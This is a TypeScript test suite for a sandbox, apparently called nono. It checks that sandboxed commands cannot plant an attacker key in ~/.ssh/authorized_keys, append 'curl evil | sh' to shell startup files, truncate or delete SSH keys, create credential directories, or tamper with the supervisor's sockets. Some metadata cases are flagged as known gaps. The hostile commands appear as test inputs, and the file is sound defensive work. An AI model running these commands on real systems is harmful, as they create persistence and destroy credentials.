// Escape attempts that try to WRITE outside the command's grants (the project and its private
// temp dir): into credential directories, into HOME, into the system, into nono's own session
// directory, and metadata changes (modes, owners, times, extended attributes). Every case checks
// the target on disk afterwards, not only the command's exit status.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { PLANTED_KEY } from '../helpers/sandbox-home.js';
import {
  PY,
  escapeTally,
  expectCompleted,
  expectKeySafe,
  expectRefused,
  pyAttempt,
  sandboxed,
  setupRig,
} from './harness.js';

// ~/.aws is removed before the session starts: the "create a credential directory that does not
// exist yet" cases need one that is absent from the start (and ~/.kube, ~/.docker never exist).
const rig = setupRig((home) => {
  fs.rmSync(path.join(home.home, '.aws'), { recursive: true, force: true });
  // A file outside HOME that the sandbox may read but not write (like anything under /etc).
  fs.writeFileSync(path.join(home.base, 'system-file'), 'system\n', { mode: 0o644 });
});
const attempt = escapeTally('write');

const h = () => rig.home.home;
const inHome = (...p: string[]) => path.join(rig.home.home, ...p);
const exists = (p: string) => fs.existsSync(p) || fs.lstatSync(p, { throwIfNoEntry: false }) !== undefined;
const BASHRC = '# test bashrc\n';

/** Everything in ~/.ssh is as planted: exactly id_rsa, unchanged. */
function expectSshDirIntact(): void {
  expect(fs.readdirSync(inHome('.ssh'))).toEqual(['id_rsa']);
  expect(fs.statSync(inHome('.ssh')).mode & 0o7777).toBe(0o700);
  expectKeySafe(rig);
}

function xattrs(p: string): string[] {
  const out = execFileSync(PY, ['-c', 'import os,sys; print("\\n".join(os.listxattr(sys.argv[1])))', p], { encoding: 'utf8' });
  return out.split('\n').filter(Boolean);
}

describe('moving credential directories and planting files in them', () => {
  attempt('rename a parent of a denied path (mv ~/.ssh, ~/.config, HOME itself)', async () => {
    const py = pyAttempt(rig, 'rename-parent', `attempt("py-rename-config", lambda: os.rename(sys.argv[1] + "/.config", "config-stolen"))`);
    const o = await sandboxed(
      rig,
      `t mv-ssh-home mv ${h()}/.ssh ${h()}/ssh-moved
       t mv-ssh-project mv ${h()}/.ssh ./ssh-stolen
       t mv-home mv ${h()} ${h()}-moved
       ${py} ${h()}`,
    );
    expectCompleted(o);
    expectRefused(o, 'mv-ssh-home', 'mv-ssh-project', 'mv-home', 'py-rename-config');
    for (const p of [inHome('ssh-moved'), path.join(rig.home.project, 'ssh-stolen'), `${h()}-moved`, path.join(rig.home.project, 'config-stolen')]) {
      expect(exists(p), p).toBe(false);
    }
    expect(fs.readFileSync(inHome('.config', 'gcloud', 'token'), 'utf8')).toBe('planted');
    expectSshDirIntact();
  });

  attempt('mv, cp, ln a file into a denied directory (plant ~/.ssh/authorized_keys)', async () => {
    const o = await sandboxed(
      rig,
      `echo 'ssh-ed25519 AAAAattacker attacker@evil' > ak
       t mv mv ak ${h()}/.ssh/authorized_keys
       t cp cp ak ${h()}/.ssh/authorized_keys2
       t ln ln ak ${h()}/.ssh/authorized_keys3
       t symlink ln -s "$PWD/ak" ${h()}/.ssh/authorized_keys4
       t redirect eval 'cat ak > ${h()}/.ssh/authorized_keys5'`,
    );
    expectCompleted(o);
    expectRefused(o, 'mv', 'cp', 'ln', 'symlink', 'redirect');
    expect(fs.existsSync(path.join(rig.home.project, 'ak'))).toBe(true); // the mv did not take it
    expectSshDirIntact();
  });

  attempt('write through a symlink in the workdir and through /proc/self/root', async () => {
    const o = await sandboxed(
      rig,
      `ln -s ${h()}/.ssh/authorized_keys ak-link; ln -s ${h()}/.bashrc rc-link
       t via-link eval 'echo "ssh-ed25519 AAAAattacker" >> ak-link'
       t via-rc-link eval 'echo "curl evil | sh" >> rc-link'
       t via-proc-root eval 'echo "curl evil | sh" >> /proc/self/root${h()}/.bashrc'`,
    );
    expectCompleted(o);
    expectRefused(o, 'via-link', 'via-rc-link', 'via-proc-root');
    expect(fs.readFileSync(inHome('.bashrc'), 'utf8')).toBe(BASHRC);
    expectSshDirIntact();
  });
});

describe('truncating a credential', () => {
  attempt('from the shell (: >, truncate, >>)', async () => {
    const k = rig.home.sshKey;
    const o = await sandboxed(rig, `t colon eval ': > ${k}'\nt truncate truncate -s 0 ${k}\nt append eval 'echo x >> ${k}'`);
    expectCompleted(o);
    expectRefused(o, 'colon', 'truncate', 'append');
    expectKeySafe(rig, o);
  });

  attempt('from python (os.truncate, O_TRUNC, O_RDWR + ftruncate)', async () => {
    const py = pyAttempt(
      rig,
      'truncate',
      `
K = sys.argv[1]
attempt("os-truncate", lambda: os.truncate(K, 0))
attempt("open-wronly-trunc", lambda: os.open(K, os.O_WRONLY | os.O_TRUNC))
attempt("open-rdonly-trunc", lambda: os.open(K, os.O_RDONLY | os.O_TRUNC))
def rdwr():
    fd = os.open(K, os.O_RDWR)
    os.ftruncate(fd, 0)
attempt("rdwr-ftruncate", rdwr)
def opath():
    fd = os.open(K, os.O_PATH)
    os.truncate(f"/proc/self/fd/{fd}", 0)
attempt("opath-truncate", opath)
`,
    );
    const o = await sandboxed(rig, `${py} ${rig.home.sshKey}`);
    expectCompleted(o);
    expectRefused(o, 'os-truncate', 'open-wronly-trunc', 'open-rdonly-trunc', 'rdwr-ftruncate', 'opath-truncate');
    expectKeySafe(rig, o);
  });
});

describe('creating credential paths that do not exist yet', () => {
  attempt('mkdir ~/.aws (absent when the session started)', async () => {
    expect(exists(inHome('.aws'))).toBe(false);
    const py = pyAttempt(rig, 'mkdir-aws', `attempt("py-makedirs", lambda: os.makedirs(sys.argv[1] + "/.aws/cli"))`);
    const o = await sandboxed(rig, `t mkdir mkdir ${h()}/.aws\nt mkdir-p mkdir -p ${h()}/.aws/sso/cache\n${py} ${h()}`);
    expectCompleted(o);
    expectRefused(o, 'mkdir', 'mkdir-p', 'py-makedirs');
    expect(exists(inHome('.aws'))).toBe(false);
  });

  attempt('mkdir ~/.kube, or pre-create it as a symlink into the workdir', async () => {
    const o = await sandboxed(rig, `t mkdir mkdir ${h()}/.kube\nt symlink ln -s "$PWD" ${h()}/.kube\nt docker mkdir ${h()}/.docker`);
    expectCompleted(o);
    expectRefused(o, 'mkdir', 'symlink', 'docker');
    expect(exists(inHome('.kube'))).toBe(false);
    expect(exists(inHome('.docker'))).toBe(false);
  });

  attempt('mkdir a nested credential path whose parent exists (~/.config/gh)', async () => {
    const o = await sandboxed(rig, `t gh mkdir ${h()}/.config/gh\nt gh-file eval 'echo "oauth_token: x" > ${h()}/.config/gh-hosts.yml'`);
    expectCompleted(o);
    expectRefused(o, 'gh', 'gh-file');
    expect(exists(inHome('.config', 'gh'))).toBe(false);
    expect(exists(inHome('.config', 'gh-hosts.yml'))).toBe(false);
  });
});

describe('changing HOME', () => {
  attempt('create a file in HOME (touch, redirect, python O_CREAT)', async () => {
    const py = pyAttempt(rig, 'create-home', `attempt("py-creat", lambda: os.open(sys.argv[1] + "/evil-py", os.O_WRONLY | os.O_CREAT, 0o644))`);
    const o = await sandboxed(rig, `t touch touch ${h()}/evil\nt profile eval 'echo "curl evil|sh" > ${h()}/.profile'\n${py} ${h()}`);
    expectCompleted(o);
    expectRefused(o, 'touch', 'profile', 'py-creat');
    for (const f of ['evil', '.profile', 'evil-py']) expect(exists(inHome(f)), f).toBe(false);
  });

  attempt('modify, delete or move an existing HOME file (~/.bashrc, ~/.config/other-tool)', async () => {
    const o = await sandboxed(
      rig,
      `t append eval 'echo "curl evil | sh" >> ${h()}/.bashrc'
       t sed-i sed -i 's/test/evil/' ${h()}/.bashrc
       t overwrite eval 'echo evil > ${h()}/.config/other-tool/settings'
       t rm rm -f ${h()}/.bashrc
       t mv mv ${h()}/.bashrc ./bashrc-stolen
       t rm-key rm -f ${rig.home.sshKey}
       t rm-ssh rm -rf ${h()}/.ssh`,
    );
    expectCompleted(o);
    expectRefused(o, 'append', 'sed-i', 'overwrite', 'rm', 'mv', 'rm-key', 'rm-ssh');
    expect(fs.readFileSync(inHome('.bashrc'), 'utf8')).toBe(BASHRC);
    expect(fs.readFileSync(inHome('.config', 'other-tool', 'settings'), 'utf8')).toBe('readable');
    expect(fs.readdirSync(h()).filter((n) => n.startsWith('sed'))).toEqual([]); // no sed temp file
    expectSshDirIntact();
  });

  attempt('create a symlink in HOME', async () => {
    const o = await sandboxed(rig, `t link ln -s /etc/passwd ${h()}/evil-link\nt dotlink ln -s "$PWD" ${h()}/.local-evil`);
    expectCompleted(o);
    expectRefused(o, 'link', 'dotlink');
    expect(exists(inHome('evil-link'))).toBe(false);
    expect(exists(inHome('.local-evil'))).toBe(false);
  });

  // Landlock (ABI 7) has no right for file metadata: chmod, utimes and xattrs on a file the user
  // owns need no capability. Seccomp cannot see paths, and refusing them everywhere would break
  // `chmod +x` in the project.
  attempt.knownGap('chmod a credential, its directory, a HOME file, and a read-only file outside HOME', async () => {
    const targets = { key: rig.home.sshKey, sshdir: inHome('.ssh'), bashrc: inHome('.bashrc'), system: path.join(rig.home.base, 'system-file') };
    const before = Object.fromEntries(Object.entries(targets).map(([k, p]) => [k, fs.statSync(p).mode & 0o7777]));
    const o = await sandboxed(
      rig,
      `t chmod-key chmod 644 ${targets.key}\nt chmod-sshdir chmod 777 ${targets.sshdir}\nt chmod-bashrc chmod 4777 ${targets.bashrc}\nt chmod-system chmod 666 ${targets.system}`,
    );
    const after = Object.fromEntries(Object.entries(targets).map(([k, p]) => [k, fs.statSync(p).mode & 0o7777]));
    // Put the modes back before asserting, so one escape does not cascade into the other cases.
    for (const [k, p] of Object.entries(targets)) fs.chmodSync(p, before[k]!);
    expectCompleted(o);
    expect(after, `modes changed from inside the sandbox (octal): ${JSON.stringify(Object.fromEntries(Object.entries(after).map(([k, v]) => [k, v.toString(8)])))}`).toEqual(before);
    expectRefused(o, 'chmod-key', 'chmod-sshdir', 'chmod-bashrc', 'chmod-system');
  });

  attempt('chown / chgrp a credential and a HOME file', async () => {
    const targets = [rig.home.sshKey, inHome('.bashrc'), inHome('.ssh')];
    const before = targets.map((p) => [fs.statSync(p).uid, fs.statSync(p).gid]);
    const o = await sandboxed(
      rig,
      `t chown-key chown 65534 ${targets[0]}\nt chown-bashrc chown 65534:65534 ${targets[1]}\nt chgrp-ssh chgrp 65534 ${targets[2]}`,
    );
    const after = targets.map((p) => [fs.statSync(p).uid, fs.statSync(p).gid]);
    targets.forEach((p, i) => fs.chownSync(p, before[i]![0]!, before[i]![1]!));
    expectCompleted(o);
    expect(after).toEqual(before);
    expectRefused(o, 'chown-key', 'chown-bashrc', 'chgrp-ssh');
  });

  // Landlock (ABI 7) has no right for file metadata: chmod, utimes and xattrs on a file the user
  // owns need no capability. Seccomp cannot see paths, and refusing them everywhere would break
  // `chmod +x` in the project.
  attempt.knownGap('change the timestamps of a credential and a HOME file (touch -d)', async () => {
    const targets = [rig.home.sshKey, inHome('.bashrc')];
    const before = targets.map((p) => fs.statSync(p));
    const o = await sandboxed(rig, `t utime-key touch -d '2001-01-01 00:00' ${targets[0]}\nt utime-bashrc touch -m -d '2001-01-01 00:00' ${targets[1]}`);
    const after = targets.map((p) => fs.statSync(p).mtimeMs);
    targets.forEach((p, i) => fs.utimesSync(p, before[i]!.atime, before[i]!.mtime));
    expectCompleted(o);
    expect(after, 'mtimes were changed from inside the sandbox').toEqual(before.map((b) => b.mtimeMs));
    expectRefused(o, 'utime-key', 'utime-bashrc');
  });

  // Landlock (ABI 7) has no right for file metadata: chmod, utimes and xattrs on a file the user
  // owns need no capability. Seccomp cannot see paths, and refusing them everywhere would break
  // `chmod +x` in the project.
  attempt.knownGap('set an extended attribute on a credential and a HOME file', async () => {
    const targets = [rig.home.sshKey, inHome('.bashrc')];
    const py = pyAttempt(
      rig,
      'setxattr',
      `attempt("xattr-key", lambda: os.setxattr(sys.argv[1], "user.nono-escape", b"1"))
attempt("xattr-bashrc", lambda: os.setxattr(sys.argv[2], "user.nono-escape", b"1"))`,
    );
    const o = await sandboxed(rig, `${py} ${targets.join(' ')}`);
    const after = targets.map(xattrs);
    for (const p of targets) {
      try {
        execFileSync(PY, ['-c', 'import os,sys; os.removexattr(sys.argv[1], "user.nono-escape")', p], { stdio: 'ignore' });
      } catch {
        /* was not set */
      }
    }
    expectCompleted(o);
    expect(after, 'extended attributes were set from inside the sandbox').toEqual([[], []]);
    expectRefused(o, 'xattr-key', 'xattr-bashrc');
  });
});

describe('writing outside HOME', () => {
  attempt('the system and /tmp outside the private temp dir', async () => {
    const tag = `nono-escape-${process.pid}`;
    const targets = [`/etc/${tag}`, `/usr/local/bin/${tag}`, `/tmp/${tag}`, `/var/tmp/${tag}`, path.join(rig.home.base, tag)];
    const o = await sandboxed(
      rig,
      `${targets.map((t, i) => `t w${i} touch ${t}`).join('\n')}
       t tmpdir-ok touch "$TMPDIR/${tag}"`,
    );
    expectCompleted(o);
    expect(o.rc['tmpdir-ok']).toBe('0'); // the private temp dir is writable: the attempt is sound
    expectRefused(o, ...targets.map((_, i) => `w${i}`));
    for (const t of targets) expect(exists(t), t).toBe(false);
  });

  attempt("nono's session directory: the supervisor socket, the handshake socket, the temp dir itself", async () => {
    const { session } = rig.s;
    const sessionDir = session.dir;
    const o = await sandboxed(
      rig,
      `t rm-sock rm -f "$NONO_SOCKET"
       t mv-sock mv "$NONO_SOCKET" ${sessionDir}/sock.old
       t plant touch ${sessionDir}/evil
       t fake-sock ${PY} -c 'import socket; socket.socket(socket.AF_UNIX).bind("${sessionDir}/sock2")'
       t rm-handshake rm -f ${sessionDir}/handshake
       t mv-tmp mv "$TMPDIR" ${sessionDir}/tmp-moved`,
    );
    expectCompleted(o);
    expectRefused(o, 'rm-sock', 'mv-sock', 'plant', 'fake-sock', 'rm-handshake', 'mv-tmp');
    expect(fs.statSync(session.socketPath).isSocket()).toBe(true);
    expect(fs.statSync(path.join(sessionDir, 'handshake')).isSocket()).toBe(true);
    expect(fs.readdirSync(sessionDir).sort()).toEqual(['handshake', 'sock', 'tmp']);
    // And the supervisor still serves.
    const next = await sandboxed(rig, 'echo still-served');
    expect(next.stdout).toContain('still-served');
  });
});

// Not an escape case (not counted): the planted key is still what the helper planted.
describe('after the battery', () => {
  it('the planted key is unchanged on disk', () => {
    expect(fs.readFileSync(rig.home.sshKey, 'utf8')).toBe(PLANTED_KEY);
  });
});
